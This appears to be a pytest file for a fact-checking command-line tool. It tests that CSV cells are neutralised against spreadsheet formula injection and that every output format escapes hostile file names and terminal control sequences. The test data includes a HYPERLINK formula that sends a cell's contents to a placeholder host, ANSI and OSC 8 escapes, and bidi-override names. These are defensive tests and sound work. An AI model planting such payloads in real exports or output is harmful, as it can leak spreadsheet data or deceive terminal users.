"""What factcheck prints cannot be turned against its reader: spreadsheet
formulas in CSV, and file names that split records or drive the terminal."""

import csv
import io
import json

import pytest

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "claim",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"£45m")',
        "+1+£2 for the Ashcombe Beacon Fund",
        "-£3m cut from the Ashcombe Beacon Fund",
        "@SUM(1) £4m",
        "\t=1+£5m",
        "£45m Young Londoners Fund",
    ],
)
def test_csv_cells_are_never_spreadsheet_formulas(run, claim):
    done = run("check", "--format", "csv", "--", claim)
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(FORMULA_START), cell
    # The quote is the only change: the claim is still there to read.
    assert rows[1][0] == ("'" + claim if claim.startswith(FORMULA_START) else claim)


HOSTILE_NAMES = ["two\nlines.md", "esc\x1b[31mred.md", "bidi\u202edm.txt", "tab\there.md"]
SENTENCE = "The Young Londoners Fund is £50m.\n"


@pytest.fixture
def drafts(tmp_path):
    for name in HOSTILE_NAMES:
        (tmp_path / name).write_text(SENTENCE, encoding="utf-8")
    return tmp_path


def _no_raw_controls(text: str) -> None:
    for bad in ("\x1b", "\u202e", "\t"):
        assert bad not in text, repr(text)


def test_line_format_one_record_per_finding_whatever_the_name(run, drafts):
    done = run("scan", *HOSTILE_NAMES, "--format", "line", cwd=drafts)
    lines = done.stdout.splitlines()
    assert len(lines) == len(HOSTILE_NAMES)
    for line in lines:
        assert ":1:29: conflicting: " in line
    _no_raw_controls(done.stdout)
    assert "two\\x0alines.md:1:29:" in done.stdout and "esc\\x1b[31mred.md:1:29:" in done.stdout


def test_github_format_one_annotation_per_finding_no_raw_controls(run, drafts):
    done = run("scan", *HOSTILE_NAMES, "--format", "github", cwd=drafts)
    lines = done.stdout.splitlines()
    assert len(lines) == len(HOSTILE_NAMES) and all(line.startswith("::error file=") for line in lines)
    _no_raw_controls(done.stdout)


def test_pretty_format_no_raw_controls_and_names_on_one_line(run, drafts):
    done = run("scan", *HOSTILE_NAMES, cwd=drafts)
    _no_raw_controls(done.stdout)
    assert "two\\x0alines.md:1:29" in done.stdout


def test_sarif_messages_no_raw_controls(run, drafts, tmp_path):
    (drafts / "claim.md").write_text("The \x1b]8;;http://example.invalid\x1b\\Young Londoners Fund\x1b]8;;\x1b\\ is £50m.\n", encoding="utf-8")
    done = run("scan", *HOSTILE_NAMES, "claim.md", "--format", "sarif", cwd=drafts)
    log = json.loads(done.stdout)
    results = log["runs"][0]["results"]
    assert len(results) >= len(HOSTILE_NAMES) + 1
    for r in results:
        _no_raw_controls(r["message"]["text"])
        assert "\n" not in r["message"]["text"]
